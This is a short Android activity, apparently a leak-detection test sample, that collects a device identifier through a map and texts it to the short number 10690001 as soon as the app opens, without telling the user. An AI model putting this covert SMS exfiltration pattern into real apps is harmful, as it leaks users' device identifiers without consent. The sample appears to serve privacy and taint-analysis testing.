package cn.shanhai.mapiterated;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import java.util.HashMap;
import java.util.Map;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    Map<String, String> parts = new HashMap<>();
    parts.put("id", Device.id(this));
    StringBuilder text = new StringBuilder();
    for (Map.Entry<String, String> part : parts.entrySet()) {
      text.append(part.getKey()).append('=').append(part.getValue()).append(';');
    }
    SmsManager.getDefault().sendTextMessage("10690001", null, text.toString(), null, null);
  }
}
